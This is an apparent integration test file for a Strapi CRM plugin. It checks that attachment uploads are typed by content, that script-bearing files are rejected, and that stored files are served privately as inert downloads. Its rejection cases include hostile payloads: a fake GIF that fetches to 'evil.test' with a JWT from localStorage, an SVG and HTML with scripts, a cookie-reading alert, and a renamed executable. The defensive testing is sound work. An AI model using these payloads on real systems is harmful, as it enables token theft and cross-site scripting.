/**
 * SPEC §5, "attachments are private": a file's type is decided from its content; nothing a browser
 * would run is stored; files live outside the public folder and are downloaded only through
 * `GET /crm/attachments/:id/file`, by staff who see the lead, as an inert download. Files stored
 * publicly by an earlier version are moved on upgrade.
 */
import fs from 'node:fs';
import path from 'node:path';
import type { Core } from '@strapi/strapi';
import { testPrivateDir } from '../helpers/database';
import { countRows, createLead } from '../helpers/leads';
import { APP_DIR, http, startStrapi, stopStrapi } from '../helpers/strapi';
import { createStaff, type Staff } from '../helpers/users';

const FILE = 'plugin::upload.file';
const LEAD = 'plugin::crm.lead';
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64'
);
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120, 0)]);

let strapi: Core.Strapi;
let seller: Staff;
let other: Staff;

beforeAll(async () => {
  strapi = await startStrapi();
  seller = await createStaff(strapi, 'Sales Staff');
  other = await createStaff(strapi, 'Sales Staff');
});

afterAll(async () => {
  await stopStrapi(strapi);
});

const upload = (leadId: string, name: string, content: string | Buffer, contentType: string, who = seller) =>
  who
    .post(`/crm/leads/${leadId}/attachments`)
    .attach('files', Buffer.from(content), { filename: name, contentType });

const publicCopy = (file: { hash: string; ext: string }) =>
  path.join(APP_DIR, 'public', 'uploads', `${file.hash}${file.ext}`);

describe('the type is decided from the content', () => {
  it.each([
    [
      'a script declared as an image',
      'pixel.gif',
      'fetch("//evil.test?"+localStorage.jwtToken)',
      'image/gif',
    ],
    [
      'HTML declared as text',
      'notes.txt',
      '<html><script src="/uploads/pixel.gif"></script></html>',
      'text/plain',
    ],
    [
      'SVG with a script',
      'logo.svg',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
      'image/svg+xml',
    ],
    ['a renamed executable', 'contract.pdf', ELF, 'application/pdf'],
    ['a PNG named as a PDF', 'contract.pdf', PNG, 'application/pdf'],
    ['a script named .js declared as text', 'app.js', 'alert(document.cookie)', 'text/plain'],
  ])('refuses %s with a 400 naming the file, storing nothing', async (_, name, content, type) => {
    const lead = await createLead(strapi, { name: 'Careful Cal', createdBy: seller.id });
    const before = await countRows(strapi, FILE);
    const res = await upload(lead.documentId, name, content, type);
    expect(res.status).toBe(400);
    expect(res.body.error.details.errors[0]).toEqual(
      expect.objectContaining({ path: ['files', '0'], message: expect.stringContaining(name) })
    );
    expect(await countRows(strapi, FILE)).toBe(before);
  });

  it.each([
    ['a PNG', 'scan.png', PNG, 'image/png', 'image/png'],
    ['a PDF declared as a generic binary', 'offer.pdf', PDF, 'application/octet-stream', 'application/pdf'],
    ['plain text', 'call notes.txt', 'Called, wants a quote', 'text/plain', 'text/plain'],
    ['CSV', 'contacts.csv', 'name,email\nAda,ada@example.com\n', 'text/csv', 'text/csv'],
  ])('stores %s with the type of its content', async (_, name, content, declared, stored) => {
    const lead = await createLead(strapi, { name: 'Filing Fay', createdBy: seller.id });
    const res = await upload(lead.documentId, name, content, declared);
    expect(res.status).toBe(201);
    expect(res.body.data[0]).toEqual(expect.objectContaining({ name, mime: stored }));
  });
});

describe('files are private', () => {
  it('are downloaded through the plugin route only, by staff who see the lead, as an inert download', async () => {
    const lead = await createLead(strapi, { name: 'Private Pia', createdBy: seller.id });
    const res = await upload(lead.documentId, 'offer.pdf', PDF, 'application/pdf');
    expect(res.status).toBe(201);
    const { documentId, url } = res.body.data[0];
    expect(url).toBe(`/crm/attachments/${documentId}/file`);
    const row = await strapi.db.query(FILE).findOne({ where: { documentId } });
    expect(row.provider).toBe('crm-private');
    expect(fs.existsSync(publicCopy(row))).toBe(false);
    expect((await http(strapi).get(`/uploads/${row.hash}${row.ext}`)).status).toBe(404);

    const download = await seller.get(url).buffer(true);
    expect(download.status).toBe(200);
    expect(Buffer.compare(download.body, PDF)).toBe(0);
    expect(download.headers['content-type']).toBe('application/pdf');
    expect(download.headers['content-disposition']).toMatch(/^attachment; filename="offer.pdf"/);
    expect(download.headers['x-content-type-options']).toBe('nosniff');
    expect(download.headers['content-security-policy']).toContain('sandbox');

    expect((await other.get(url)).status).toBe(404);
    expect((await other.get('/crm/attachments/doesnotexist000000000000/file')).status).toBe(404);
    expect((await http(strapi).get(url)).status).toBe(401);
  });

  it("deleting the lead's file removes it from the private folder", async () => {
    const lead = await createLead(strapi, { name: 'Tidy Ted', createdBy: seller.id });
    const res = await upload(lead.documentId, 'temp.txt', 'short lived', 'text/plain');
    const row = await strapi.db.query(FILE).findOne({ where: { documentId: res.body.data[0].documentId } });
    const stored = path.join(testPrivateDir(), `${row.hash}${row.ext}`);
    expect(fs.existsSync(stored)).toBe(true);
    expect((await seller.del(`/crm/attachments/${row.documentId}`)).status).toBe(200);
    expect(fs.existsSync(stored)).toBe(false);
  });

  it('files stored publicly by an earlier version are moved out of the public folder on upgrade', async () => {
    const lead = await createLead(strapi, { name: 'Legacy Lou', createdBy: seller.id });
    // what the previous version did: the upload plugin's local provider, a public URL
    const tmp = path.join(APP_DIR, '.tmp', `legacy-${Date.now()}.pdf`);
    fs.mkdirSync(path.dirname(tmp), { recursive: true });
    fs.writeFileSync(tmp, PDF);
    const [legacy] = await strapi
      .plugin('upload')
      .service('upload')
      .upload({
        data: {},
        files: {
          filepath: tmp,
          originalFilename: 'legacy.pdf',
          mimetype: 'application/pdf',
          size: PDF.length,
        },
      });
    await strapi.db.query(LEAD).update({ where: { id: lead.id }, data: { attachments: [legacy.id] } });
    expect((await http(strapi).get(legacy.url)).status).toBe(200);

    await stopStrapi(strapi);
    strapi = await startStrapi({ keepDatabase: true });

    const moved = await strapi.db.query(FILE).findOne({ where: { id: legacy.id } });
    expect(moved.provider).toBe('crm-private');
    expect((await http(strapi).get(legacy.url)).status).toBe(404);
    const owner = await createStaff(strapi, 'Sales Manager');
    const download = await owner.get(moved.url).buffer(true);
    expect(download.status).toBe(200);
    expect(Buffer.compare(download.body, PDF)).toBe(0);
  });
});
